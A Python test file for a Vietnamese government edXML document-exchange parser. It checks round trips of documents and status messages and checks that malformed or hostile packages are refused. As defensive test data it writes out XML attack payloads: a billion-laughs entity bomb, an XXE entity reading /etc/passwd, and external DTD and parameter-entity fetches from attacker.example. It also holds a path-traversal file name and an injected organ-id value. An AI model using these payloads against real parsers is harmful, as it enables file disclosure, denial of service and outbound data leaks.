"""edXML packages: documents and status messages survive a round trip; hostile or
malformed XML (XXE, billion laughs, wrong namespace, missing or inconsistent fields) is
refused with a specific reason and never crashes the parser."""

from __future__ import annotations

import base64
from datetime import date, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from govmail.documents.envelope import (
    EDXML_NS,
    VN_TZ,
    EnvelopeError,
    build_document,
    build_status,
    parse_package,
)
from govmail.documents.model import (
    DocumentEnvelope,
    FileRef,
    Organ,
    ResponseFor,
    Signer,
    StaffInfo,
    StatusMessage,
    TraceEntry,
)


def document(**changes: object) -> DocumentEnvelope:
    env = DocumentEnvelope(
        sender=Organ("000.00.00.G14", "Bộ Thông tin và Truyền thông", email="vanthu@mic.gov.vn"),
        recipients=[
            Organ("000.00.00.H45", "Ủy ban nhân dân tỉnh Phú Yên", email="vanthu@phuyen.gov.vn"),
            Organ(
                "000.00.02.H45",
                "Sở Thông tin và Truyền thông tỉnh Phú Yên",
                email="stttt@phuyen.gov.vn",
            ),
        ],
        number="22",
        notation="BC-BTTTT",
        place="Hà Nội",
        promulgation_date=date(2011, 11, 18),
        type_no=14,
        type_name="Báo cáo",
        subject="Tình hình thực hiện Chỉ thị số 34/2008/CT-TTg <về> thư điện tử & văn bản",
        signer=Signer("Nguyễn Minh Hồng", "Thứ trưởng", "KT. BỘ TRƯỞNG"),
        document_id="000.00.00.G14,2011/11/18,22/BC-BTTTT",
        content="Nội dung tóm tắt.",
        due_date=date(2011, 12, 1),
        to_places=["Như trên", "Sở TT&TT các tỉnh, thành phố trực thuộc TW (qua thư điện tử)"],
        priority=3,
        appendixes=["Phụ lục các bảng số liệu.pdf"],
        response_for=[
            ResponseFor(
                "000.00.00.H45",
                "15/UBND-VP",
                date(2011, 10, 1),
                "000.00.00.H45,2011/10/01,15/UBND-VP",
            )
        ],
        trace=[TraceEntry("000.00.00.G14", datetime(2011, 11, 18, 9, 30, tzinfo=VN_TZ))],
        files=[
            FileRef("a1@mic.gov.vn", "22-BC-BTTTT.pdf", "application/pdf", "Văn bản chính"),
            FileRef("a2@mic.gov.vn", "Phụ lục các bảng số liệu.pdf", "application/pdf", "Phụ lục"),
        ],
    )
    for k, v in changes.items():
        setattr(env, k, v)
    return env


def test_a_document_survives_a_round_trip() -> None:
    env = document()
    data = build_document(env)
    assert data.startswith(b'<?xml version="1.0" encoding="utf-8"?>')
    assert f'xmlns:edXML="{EDXML_NS}"'.encode() in data
    assert b"<edXML:CodeNotation>BC-BTTTT</edXML:CodeNotation>" in data
    assert b"<edXML:PromulgationDate>2011/11/18</edXML:PromulgationDate>" in data
    assert b'xlink:href="cid:a1@mic.gov.vn"' in data
    back = parse_package(data)
    assert isinstance(back, DocumentEnvelope)
    back.trace[0].timestamp = env.trace[0].timestamp  # same instant, written in ICT
    assert back == env


def test_a_status_survives_a_round_trip() -> None:
    status = StatusMessage(
        response_for=ResponseFor(
            "000.00.00.G14",
            "22/BC-BTTTT",
            date(2011, 11, 18),
            "000.00.00.G14,2011/11/18,22/BC-BTTTT",
        ),
        sender=Organ(
            "000.00.02.H45",
            "Sở Thông tin và Truyền thông tỉnh Phú Yên",
            email="stttt@phuyen.gov.vn",
        ),
        code="04",
        description="Giao Phòng CNTT xử lý, hạn 30/11.",
        timestamp=datetime(2011, 11, 19, 8, 0, 5, tzinfo=VN_TZ),
        staff=StaffInfo("Phòng CNTT", "Lê Văn Tám", "", "tamlv@phuyen.gov.vn"),
    )
    back = parse_package(build_status(status))
    assert back == status


def test_values_are_normalised_to_nfc_and_illegal_characters_dropped() -> None:
    env = document(subject="Ba\u0301o ca\u0301o\x01 tháng")  # NFD and a control character
    back = parse_package(build_document(env))
    assert isinstance(back, DocumentEnvelope)
    assert back.subject == "Báo cáo tháng"


def _xml(header_inner: str, *, root: str = "edXML", ns: str = EDXML_NS) -> bytes:
    return (
        f'<?xml version="1.0"?><{root} xmlns="{ns}"><edXMLEnvelope><edXMLHeader>'
        f"{header_inner}</edXMLHeader></edXMLEnvelope></{root}>"
    ).encode()


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016"><x>&lol3;</x></edXML>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE e [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016"><edXMLEnvelope><edXMLHeader>
<MessageHeader><Subject>&xxe;</Subject></MessageHeader></edXMLHeader></edXMLEnvelope></edXML>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?><!DOCTYPE edXML SYSTEM "http://attacker.example/x.dtd">
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016"/>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM
"http://attacker.example/p.dtd"> %p;]><edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016"/>"""


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (BILLION_LAUGHS, "forbidden_xml"),
        (XXE, "forbidden_xml"),
        (EXTERNAL_DTD, "forbidden_xml"),
        (PARAMETER_ENTITY, "forbidden_xml"),
        (b"", "malformed_xml"),
        (b"%PDF-1.4 not xml at all", "malformed_xml"),
        (b"<edXML xmlns='http://www.mic.gov.vn/TBT/QCVN_102_2016'><unclosed>", "malformed_xml"),
        (b'<?xml version="1.0" encoding="TCVN3"?><a/>', "malformed_xml"),
        (b"<EdXMLEnvelope xmlns='http://www.go.vn/eDoc'/>", "old_namespace"),
        (b"<edXML xmlns='urn:other'><edXMLEnvelope/></edXML>", "not_edxml"),
        (b"<html><body>hello</body></html>", "not_edxml"),
        (_xml(""), "not_edxml"),
        (_xml("<MessageHeader/><Status/>"), "not_edxml"),
        (_xml("<MessageHeader/>"), "missing_field"),
        (
            _xml(
                "<Status><ResponseFor><DocumentId>x</DocumentId></ResponseFor><From>"
                "<OrganId>000.00.00.G14</OrganId></From><StatusCode>99</StatusCode>"
                "<Timestamp>2020/01/01 00:00:00</Timestamp></Status>"
            ),
            "bad_status_code",
        ),
    ],
)
def test_hostile_and_malformed_packages_are_refused(data: bytes, reason: str) -> None:
    with pytest.raises(EnvelopeError) as exc:
        parse_package(data)
    assert exc.value.reason == reason


@pytest.mark.parametrize(
    ("old", "new", "reason"),
    [
        (
            b"000.00.00.G14,2011/11/18,22/BC-BTTTT",
            b"000.00.00.G14,2011/11/18,23/BC-BTTTT",
            "document_id_mismatch",
        ),
        (b"<edXML:PromulgationDate>2011/11/18", b"<edXML:PromulgationDate>2011/13/45", "bad_date"),
        (b"<edXML:CodeNumber>22", b"<edXML:CodeNumber>2a2", "bad_number"),
        (
            b"<edXML:OrganId>000.00.00.G14</edXML:OrganId>",
            b"<edXML:OrganId>g14; drop</edXML:OrganId>",
            "bad_organ_id",
        ),
        (b"<edXML:Priority>3", b"<edXML:Priority>9", "bad_number"),
        (b"<edXML:Subject>", b"<edXML:Subject>" + b"x" * 1200, "field_too_long"),
    ],
)
def test_inconsistent_or_out_of_range_fields_are_refused(
    old: bytes, new: bytes, reason: str
) -> None:
    data = build_document(document())
    assert old in data
    with pytest.raises(EnvelopeError) as exc:
        parse_package(data.replace(old, new, 1))
    assert exc.value.reason == reason


def test_a_document_without_recipients_or_number_is_refused() -> None:
    data = build_document(document(recipients=[]))
    with pytest.raises(EnvelopeError) as exc:
        parse_package(data)
    assert exc.value.reason == "missing_field"
    with pytest.raises(EnvelopeError):
        parse_package(build_document(document(number="")))


def test_size_limit() -> None:
    data = build_document(document())
    with pytest.raises(EnvelopeError) as exc:
        parse_package(data, max_bytes=len(data) - 1)
    assert exc.value.reason == "too_big"


def test_inline_attachments_of_other_systems_are_read() -> None:
    data = build_document(document(files=[FileRef("x1", "a.pdf", "application/pdf")]))
    encoded = base64.b64encode(b"%PDF-1.4 inline").decode()
    extra = (
        "<AttachmentEncoded><Attachment><ContentType>application/pdf</ContentType>"
        f"<ContentId>x1</ContentId><ContentTransferEncoded>{encoded}</ContentTransferEncoded>"
        "<AttachmentName>a.pdf</AttachmentName></Attachment></AttachmentEncoded>"
    ).encode()
    back = parse_package(data.replace(b"</edXML>", extra + b"</edXML>"))
    assert isinstance(back, DocumentEnvelope)
    assert back.files[0].data == b"%PDF-1.4 inline"
    bad = extra.replace(encoded.encode(), b"@@not base64@@")
    with pytest.raises(EnvelopeError) as exc:
        parse_package(data.replace(b"</edXML>", bad + b"</edXML>"))
    assert exc.value.reason == "bad_attachment"


def test_file_names_lose_directories() -> None:
    env = document(files=[FileRef("c", "../../etc/passwd", "application/pdf")])
    back = parse_package(build_document(env))
    assert isinstance(back, DocumentEnvelope) and back.files[0].name == "passwd"


def test_deep_nesting_is_no_crash() -> None:
    deep = b"<a>" * 50_000 + b"</a>" * 50_000
    with pytest.raises(EnvelopeError):
        parse_package(_xml("").replace(b"<edXMLHeader>", b"<edXMLHeader>" + deep))


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=400))
def test_random_bytes_give_envelope_errors_only(data: bytes) -> None:
    try:
        parse_package(data)
    except EnvelopeError:
        pass


@settings(max_examples=100, deadline=None)
@given(st.integers(0, 3000), st.binary(min_size=1, max_size=8))
def test_corrupted_packages_give_envelope_errors_only(pos: int, junk: bytes) -> None:
    data = build_document(document())
    pos = pos % len(data)
    try:
        parse_package(data[:pos] + junk + data[pos + len(junk) :])
    except EnvelopeError:
        pass
